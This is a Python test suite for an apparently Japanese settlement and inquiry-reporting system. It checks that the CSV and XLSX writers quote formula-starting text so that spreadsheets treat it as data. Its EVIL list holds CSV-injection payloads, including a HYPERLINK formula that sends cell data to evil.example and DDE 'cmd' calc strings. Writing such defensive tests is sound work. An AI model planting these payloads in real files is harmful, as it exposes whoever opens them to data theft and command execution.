"""Files are data, never formulas: every CSV and XLSX the system writes, read back as Excel would.

Text that reaches a file from the public (store names, municipality names) or from data and
configuration (inquiry categories, ids, statuses) must never start a formula; numbers, negative
ones included, must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from chalicelib.inquiries import reports
from chalicelib.inquiries.config import Category
from chalicelib.kernel.calendars import JST
from chalicelib.kernel.cells import FORMULA_START, safe_row, safe_text
from chalicelib.settlement import documents
from chalicelib.settlement.rounds import StoreState, compute_round

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝HYPERLINK(\"http://evil.example\")",
    "=1+1\n2行目",
]
GENERATED = datetime(2025, 7, 2, 8, 30, tzinfo=JST)
NUMBER = re.compile(r"-?\d+(\.\d+)?")


# --- the helper ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", EVIL)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("value", ["店舗", "", "a=b", " =1", "'=1", "2025-06-07", -300, 0, 12, Decimal("-1.5"),
                                   1.25, None, True, date(2025, 6, 1)])
def test_everything_else_passes_unchanged(value):
    assert safe_text(value) is value


def test_safe_row_keeps_numbers_and_neutralizes_text():
    assert safe_row(["=1", -5, Decimal("2.0"), None, "ok"]) == ["'=1", -5, Decimal("2.0"), None, "ok"]


def test_neutralized_text_is_a_string_cell_in_openpyxl():
    # openpyxl stores any str starting with "=" as a formula (data_type "f"); the quoted one is text.
    wb = Workbook()
    wb.active.append(safe_row(["=1+1", -3]))
    first, second = wb.active[1]
    assert (first.data_type, first.value) == ("s", "'=1+1")
    assert (second.data_type, second.value) == ("n", -3)


# --- every writer, read back ---------------------------------------------------------------------------


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def assert_no_formula_in_csv(data: bytes) -> list[str]:
    cells = csv_cells(data)
    for cell in cells:
        assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), cell
    return cells


def assert_no_formula_in_xlsx(data: bytes) -> list[Any]:
    cells = xlsx_cells(data)
    for value in cells:
        assert not (isinstance(value, str) and value.startswith(FORMULA_START)), value
    return cells


def settlement_round(names: list[str]) -> tuple[Any, dict[str, tuple[str, str]]]:
    ids = [f"MP{n:06d}" for n in range(1, len(names) + 1)]
    usage = {store_id: 1000 * (i + 1) for i, store_id in enumerate(ids)}
    # A correction larger than the usage: a negative amount, held and carried forward.
    adjustments = {ids[0]: -300, ids[-1]: -(usage[ids[-1]] + 500)}
    figures = compute_round("2025-06", date(2025, 7, 18), usage, adjustments, {},
                            {s: StoreState(s) for s in ids}, Decimal("0.005"))
    # The municipality column is the store's too; an unregistered store id gets its own label.
    return figures, {store_id: (name, name) for store_id, name in zip(ids, names, strict=True)}


def test_settlement_statement_csv_and_xlsx_hold_evil_store_names_as_text():
    figures, names = settlement_round(EVIL)
    csv_data = documents.statement_csv(figures, names)
    xlsx_data = documents.statement_xlsx(figures, names)

    cells = assert_no_formula_in_csv(csv_data)
    for name in EVIL:
        assert "'" + name in cells
    assert "-300" in cells  # a negative amount is still a plain number
    assert str(-(len(EVIL) * 1000 + 500)) in cells

    values = assert_no_formula_in_xlsx(xlsx_data)
    for name in EVIL:
        assert "'" + name.replace("\r", "\n") in values  # XML reads a stored CR back as LF
    assert -300 in [v for v in values if isinstance(v, int) and not isinstance(v, bool)]
    assert any(isinstance(v, int) and v == -(len(EVIL) * 1000 + 500) for v in values)


def evil_categories() -> tuple[Category, ...]:
    return (*(Category(f"c{i}", label) for i, label in enumerate(EVIL)), Category("other", "その他"))


def evil_items() -> list[dict[str, Any]]:
    items = []
    for i, text in enumerate(EVIL):
        items.append({"inquiry_id": f"IQ{i:06d}", "received_at": "2025-06-07T10:00:00+09:00", "category": f"c{i}",
                      "caller_type": "store", "channel": "phone", "status": "pending"})
        # A code found in the data but no longer configured is shown as it is stored.
        items.append({"inquiry_id": text, "received_at": text, "category": text, "caller_type": text,
                      "channel": "phone", "status": text, "escalation": {"at": text}})
    return items


def test_daily_inquiry_report_csv_and_xlsx_hold_evil_labels_and_codes_as_text():
    items = [i for i in evil_items() if i["received_at"].startswith("2025")]
    report = reports.DailyReport(
        delivery_day=date(2025, 6, 9),
        lines=reports.with_running_totals([reports.count_day(date(2025, 6, 7), items, True)], 0, {}),
        categories=evil_categories(), forecast_month=1000, forecast_total=12000,
        open_items=tuple(reports.open_item_row(i) for i in evil_items()),
    )
    csv_data, xlsx_data = reports.daily_files(report, GENERATED)
    assert_no_formula_in_csv(csv_data)
    values = assert_no_formula_in_xlsx(xlsx_data)
    assert "'" + EVIL[0] in values  # the open item's id, category, caller type and status


def test_monthly_inquiry_summary_csv_and_xlsx_hold_evil_labels_and_codes_as_text():
    summary = reports.summarize_month("2025-06", evil_items(), evil_categories(), 1000, [date(2025, 6, 7)])
    csv_data, xlsx_data = reports.monthly_files(summary, GENERATED)
    cells = assert_no_formula_in_csv(csv_data)
    assert "'" + EVIL[0] in cells
    values = assert_no_formula_in_xlsx(xlsx_data)
    assert "'" + EVIL[0] in values


WRITERS: list[tuple[str, Callable[[list[list[Any]]], bytes]]] = [
    ("inquiries.to_csv", reports.to_csv),
    ("inquiries.to_xlsx", lambda rows: reports.to_xlsx([("表", rows)], GENERATED)),
]


@pytest.mark.parametrize("name,writer", WRITERS, ids=[w[0] for w in WRITERS])
def test_generic_writers_keep_negative_numbers_numeric(name, writer):
    data = writer([["項目", "値"], *[[text, -7] for text in EVIL], ["-8", Decimal("-1.5")]])
    if name.endswith("csv"):
        cells = assert_no_formula_in_csv(data)
        assert cells.count("-7") == len(EVIL)
        assert "'-8" in cells and "-1.5" in cells
    else:
        values = assert_no_formula_in_xlsx(data)
        assert values.count(-7) == len(EVIL)
        assert "'-8" in values and -1.5 in values


# Text as the public may type it: any printable character, tabs and line breaks included (control
# characters are refused at input).
typed = st.text(st.characters(blacklist_categories=("Cs", "Co", "Cn", "Cc"), whitelist_characters="\t\r\n"),
                min_size=1, max_size=30)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(typed, st.sampled_from(EVIL)), min_size=1, max_size=4))
def test_any_store_name_stays_text_in_the_statement(names):
    figures, mapping = settlement_round(names)
    assert_no_formula_in_csv(documents.statement_csv(figures, mapping))
    assert_no_formula_in_xlsx(documents.statement_xlsx(figures, mapping))
